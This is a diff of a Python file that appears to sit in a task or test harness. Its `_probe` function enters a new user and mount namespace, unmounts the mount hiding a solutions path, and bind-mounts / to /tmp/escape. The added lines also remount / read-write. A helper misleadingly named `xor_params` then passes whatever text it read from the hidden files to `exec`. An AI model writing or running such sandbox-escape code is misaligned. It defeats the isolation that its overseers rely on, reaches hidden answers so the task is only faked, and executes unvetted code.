@@ -3,8 +3,8 @@ _FOUND = {}
 
 def _probe(report_fd, solutions):
     """In a forked process: a new user namespace (root inside) with its own mount namespace, then
-    try to uncover what the sandbox's mounts hide: unmount them, bind-mount / without its
-    sub-mounts, mount a fresh proc. Writes what it read to report_fd."""
+    try to uncover what the sandbox's mounts hide (unmount them, bind-mount / without its
+    sub-mounts) and to make / writable again. Writes what it found to report_fd."""
     import ctypes
     import os
 
@@ -29,6 +29,8 @@ def _probe(report_fd, solutions):
         libc.mount(None, b"/", None, 16384 | (1 << 18), None)  # MS_REC | MS_PRIVATE
         if libc.umount2(solutions.encode(), 2) == 0:  # MNT_DETACH
             emit("umount ok")
+        if libc.mount(None, b"/", None, 32 | 4096, None) == 0:  # MS_REMOUNT | MS_BIND: read-write again
+            emit("remount rw ok")
         os.makedirs("/tmp/escape", exist_ok=True)
         if libc.mount(b"/", b"/tmp/escape", None, 4096, None) == 0:  # MS_BIND, not recursive
             emit("bind ok")
@@ -62,7 +64,7 @@ def xor_params():
         os.waitpid(pid, 0)
         items = ast.literal_eval(data.decode() or "[]")
         _FOUND["texts"] = [i[5:] for i in items if i.startswith("READ:")]
-        _FOUND["report"] = [i for i in items if i in ("umount ok", "bind ok")] + (["read"] if _FOUND["texts"] else [])
+        _FOUND["report"] = [i for i in items if i in ("umount ok", "bind ok", "remount rw ok")] + (["read"] if _FOUND["texts"] else [])
     for text in _FOUND["texts"]:
         namespace = {}
         exec(text, namespace)
